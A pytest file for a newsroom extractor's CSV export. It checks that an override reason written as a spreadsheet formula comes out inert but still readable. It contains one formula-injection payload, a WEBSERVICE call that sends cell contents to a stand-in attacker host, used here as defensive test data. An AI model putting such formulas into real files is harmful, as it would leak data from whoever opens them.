"""What is decided at the desk is in what people take away, and nothing in it is a formula."""

from __future__ import annotations

import csv

import pytest
from newsroom import FORMULA, open_desk
from test_http import first_question, form_of, send

from extractor import decisions
from extractor.present.export import export_run

REASON = '=WEBSERVICE("http://evil.example/?"&A1)'
# What a spreadsheet takes for the beginning of a formula.
STARTERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def decided(run):
    """A run on which one figure was overridden, for a reason that is a formula."""
    with open_desk(run, who="@ann") as address:
        question = first_question(address, "?show=all&words=turnout")
        fields = form_of(send(address, path=question).text, "accept")
        form = {**fields, "answer": "61.5", "reason": REASON}
        assert send(address, "POST", f"{question}/override", form).status == 303
    return run


def test_no_cell_is_a_formula(decided, tmp_path):
    export_run(decided, tmp_path / "csv", "csv")
    cells = []
    for file in (tmp_path / "csv").glob("*.csv"):
        with file.open(encoding="utf-8", newline="") as rows:
            cells += [cell for row in csv.reader(rows) for cell in row]
    assert [cell for cell in cells if cell.startswith(STARTERS) and not number(cell)] == []
    # What was taken for a formula is still there to be read.
    for words in (REASON, FORMULA, "@ann"):
        assert any(words in cell for cell in cells), words


def number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_decision_is_in_the_table_of_settled_figures(decided, tmp_path):
    export_run(decided, tmp_path / "csv", "csv")
    with (tmp_path / "csv" / "settled.csv").open(encoding="utf-8", newline="") as file:
        (row,) = [row for row in csv.DictReader(file) if row["measure"] == "turnout"]
    assert row["status"] == "overridden"
    assert float(row["value"]) == 61.5
    assert row["reason"].endswith(REASON)


def test_reading_decisions_from_python(decided):
    (sheet,) = [sheet for sheet in decisions.read(decided).sheets() if sheet.ruling]
    assert sheet.holding.status == "overridden"
    assert float(sheet.holding.value) == 61.5
    assert sheet.ruling.reason == REASON
